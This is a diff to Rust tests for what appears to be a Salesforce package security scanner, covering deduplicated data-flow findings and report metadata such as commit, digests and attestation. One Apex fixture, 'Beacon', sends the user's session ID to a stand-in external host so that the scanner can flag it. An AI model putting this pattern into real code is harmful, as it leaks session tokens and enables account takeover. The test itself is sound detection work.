@@ -15,6 +15,10 @@ fn review_of(files: &[(&str, String)]) -> Review {
 
 fn review_with(files: &[(&str, String)], config: Config) -> Review {
     let dir = TempProject::new(files).expect("project");
+    review_in(&dir, config, None, Attestation::default())
+}
+
+fn review_in(dir: &TempProject, config: Config, file: Option<(String, String)>, attestation: Attestation) -> Review {
     let result = scan(&ScanRequest {
         paths: vec![dir.path().to_path_buf()],
         cwd: dir.path().to_path_buf(),
@@ -30,6 +34,8 @@ fn review_with(files: &[(&str, String)], config: Config) -> Review {
             scanned: vec![".".into()],
             now: NOW,
             options: &config.options,
+            config: file,
+            attestation,
         },
     )
 }
@@ -253,4 +259,111 @@ fn apps_the_configuration_calls_native_say_so() {
         r.inventory.apps[0].ip_policy,
         "relaxed (`BYPASS`); native app (sfsec.toml lists it in `oauth.native-apps`)"
     );
+}
+
+#[test]
+fn a_data_flow_step_is_listed_once() {
+    let class = "public with sharing class Beacon {\n    public static void send() {\n        String sid = UserInfo.getSessionId();\n        HttpRequest req = new HttpRequest();\n        req.setEndpoint('https://collector.example.net/b?sid=' + sid);\n        new Http().send(req);\n    }\n}\n";
+    let r = review_of(&[("force-app/main/default/classes/Beacon.cls", class.to_string())]);
+    let group = r
+        .groups
+        .iter()
+        .find(|g| g.doc.id == "session-id-to-external")
+        .expect("a flow finding");
+    let steps = &group.entries[0].steps;
+    assert!(steps.len() >= 2, "{}", steps.len());
+    for (i, a) in steps.iter().enumerate() {
+        let twice = steps[i + 1..]
+            .iter()
+            .any(|b| (&b.path, b.line, &b.message) == (&a.path, a.line, &a.message));
+        assert!(!twice, "listed twice: {}:{}: {}", a.path, a.line, a.message);
+    }
+}
+
+fn git(dir: &std::path::Path, args: &[&str]) {
+    let ok = std::process::Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args([
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.com",
+            "-c",
+            "commit.gpgsign=false",
+        ])
+        .args(args)
+        .output()
+        .expect("git")
+        .status
+        .success();
+    assert!(ok, "git {args:?}");
+}
+
+/// What ties the document to an uploaded package version: the package and its version, the
+/// commit and whether the project differs from it, the time in UTC, the configuration's and the
+/// content's digests, and the attestation.
+#[test]
+fn the_report_says_which_package_commit_content_and_configuration_it_describes() {
+    let mut files = fixture();
+    let sfdx = r#"{"packageDirectories":[{"path":"force-app","default":true,"package":"Acme Billing","versionNumber":"1.4.0.NEXT","versionName":"Spring"}],"namespace":"acmebill"}"#;
+    files.push(("sfdx-project.json", sfdx.to_string()));
+    let dir = TempProject::new(&files).expect("project");
+    let plain = review_in(&dir, Config::default(), None, Attestation::default());
+    assert_eq!(plain.meta.project, "Acme Billing 1.4.0.NEXT");
+    assert_eq!(plain.meta.timestamp, "2026-11-24T00:00:00Z");
+    assert_eq!(plain.meta.git, None, "not a git work tree");
+    assert_eq!(plain.meta.content_digest.len(), 64);
+    let md = markdown::render(&plain);
+    assert!(
+        md.starts_with("# Security review report: Acme Billing 1.4.0.NEXT\n"),
+        "{md}"
+    );
+    assert!(
+        md.contains("| Packages | `Acme Billing` `1.4.0.NEXT` (Spring) in `force-app` |"),
+        "{md}"
+    );
+    assert!(md.contains("| Source | a folder outside git (no commit) |"));
+    assert!(md.contains("| Configuration | none: every rule at its default |"));
+    assert!(md.contains("| Prepared by |  |\n"), "blank for the partner");
+
+    git(dir.path(), &["init", "-q"]);
+    git(dir.path(), &["add", "-A"]);
+    git(dir.path(), &["commit", "-q", "-m", "v1"]);
+    let attestation = Attestation {
+        prepared_by: Some("Jane Roe <jane@acme.example>".into()),
+        submission: Some("AppExchange review 0042, version 1.4.0".into()),
+    };
+    let digest = "ab".repeat(32);
+    let signed = review_in(
+        &dir,
+        Config::default(),
+        Some(("sfsec.toml".into(), digest.clone())),
+        attestation,
+    );
+    let (commit, dirty) = signed.meta.git.clone().expect("a git work tree");
+    assert_eq!((commit.len(), dirty), (40, false));
+    assert_eq!(signed.meta.content_digest, plain.meta.content_digest, "the same files");
+    let md = markdown::render(&signed);
+    assert!(md.contains(&format!("| Source | commit {commit} (clean) |")), "{md}");
+    assert!(md.contains(&format!("| Configuration | `sfsec.toml`, SHA-256 `{digest}` |")));
+    // Markup in a cell is shown as code, never interpreted.
+    assert!(md.contains("| Prepared by | Jane Roe `<jane@acme.example>` |"), "{md}");
+    assert!(md.contains("| Submission | AppExchange review 0042, version 1.4.0 |"));
+    let html = html::render(&signed);
+    assert!(
+        html.contains("&lt;jane@acme.example&gt;") && !html.contains("<jane@"),
+        "escaped"
+    );
+
+    // One byte changed in a scanned file: another content digest, and the project is dirty.
+    dir.write(
+        "force-app/main/default/classes/Billing.cls",
+        b"public with sharing class Billing {}\n",
+    )
+    .expect("write");
+    let edited = review_in(&dir, Config::default(), None, Attestation::default());
+    assert_ne!(edited.meta.content_digest, plain.meta.content_digest);
+    assert_eq!(edited.meta.git, Some((commit, true)));
+    assert!(markdown::render(&edited).contains("(with uncommitted changes in the project)"));
 }
